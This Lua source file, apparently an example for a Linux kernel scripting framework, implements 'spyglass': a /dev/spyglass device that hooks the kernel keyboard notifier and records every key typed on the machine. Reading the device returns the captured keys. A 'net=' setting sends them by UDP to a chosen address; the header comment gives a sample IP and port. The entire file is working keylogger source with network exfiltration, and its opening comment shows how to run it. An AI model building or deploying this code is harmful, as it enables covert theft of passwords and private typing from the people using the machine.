-- SPDX-License-Identifier: MIT OR GPL-2.0-only
--
-- /dev/spyglass: the keys typed on the machine's keyboards. Each read returns the keys since the last one.
--
--	# lunatik run examples/spyglass
--	# cat /dev/spyglass
--	# echo enable=false > /dev/spyglass
--	# echo net=192.168.1.2:1234 > /dev/spyglass	reads send the keys there, by UDP; net= ends that

local device = require("device")
local inet = require("socket.inet")
local linux = require("linux")
local notifier = require("notifier")

local kbd, notify = notifier.kbd, notifier.notify

-- Names of what cannot be printed, from character 0 on.
local names = {}
for name in ("nul soh stx etx eot enq ack bel bs ht nl vt np cr so si dle dc1 dc2 dc3 dc4 nak syn etb can em sub esc fs gs rs us")
	:gmatch("%l+") do
	names[#names + 1] = "<" .. name .. ">"
end
names[128] = "<del>"

-- As much as is kept while nobody reads.
local LOG_MAX <const> = 4096

local log = ""
local peer

local function text(character)
	if character >= 32 and character <= 126 then
		return string.char(character)
	end
	return names[character + 1] or ""
end

local function listen(event, down, _, key)
	if event == kbd.KEYSYM and not down then
		log = (log .. text(key & 0xff)):sub(-LOG_MAX)
	end
	return notify.OK
end

local function nop() end

local driver = {name = "spyglass", mode = linux.stat.IRUSR | linux.stat.IWUSR, open = nop, release = nop}
local keyboard = notifier.keyboard(listen)

local settings = {}

function settings.enable(value)
	if value == "false" then
		keyboard:delete()
		keyboard = nil
	elseif not keyboard then
		keyboard = notifier.keyboard(listen)
	end
end

function settings.net(value)
	local address, port = value:match("^(%d+%.%d+%.%d+%.%d+):(%d+)")
	if peer then
		peer.udp:close()
		peer = nil
	end
	if address then
		peer = {udp = inet.udp(), address = address, port = tonumber(port)}
		print("spyglass: enabling network support " .. address .. ":" .. port)
	else
		print("spyglass: disabling network support")
	end
end

function driver:write(message)
	for key, value in message:gmatch("(%w+)=(%S*)") do
		if settings[key] then
			settings[key](value)
		end
	end
end

function driver:read(length)
	if not peer then
		local typed = log:sub(1, length)
		log = log:sub(length + 1)
		return typed
	end
	local typed = log
	log = ""
	if typed ~= "" then
		peer.udp:send(typed, peer.address, peer.port)
	end
	return ""
end

device.new(driver)
